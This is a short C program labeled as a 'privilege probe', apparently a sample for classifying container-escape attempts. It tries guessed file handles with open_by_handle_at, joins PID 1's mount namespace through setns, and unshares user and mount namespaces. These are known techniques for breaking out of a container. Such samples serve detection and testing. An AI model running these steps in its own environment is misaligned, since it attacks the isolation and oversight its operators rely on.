// class: privilege probe; possible: low medium
#define _GNU_SOURCE
#include <fcntl.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <unistd.h>
int main(void)
{
    struct file_handle *h = calloc(1, sizeof *h + 8);
    h->handle_bytes = 8; h->handle_type = 1; h->f_handle[0] = 2;
    for (int tries = 0; tries < 4; tries++) { h->f_handle[0] = 2 + tries; if (open_by_handle_at(AT_FDCWD, h, O_RDONLY) < 0) perror("open_by_handle_at"); }
    int n = open("/proc/1/ns/mnt", O_RDONLY);
    if (setns(n, 0)) perror("setns");
    if (unshare(CLONE_NEWUSER | CLONE_NEWNS)) perror("unshare");
    return 0;
}
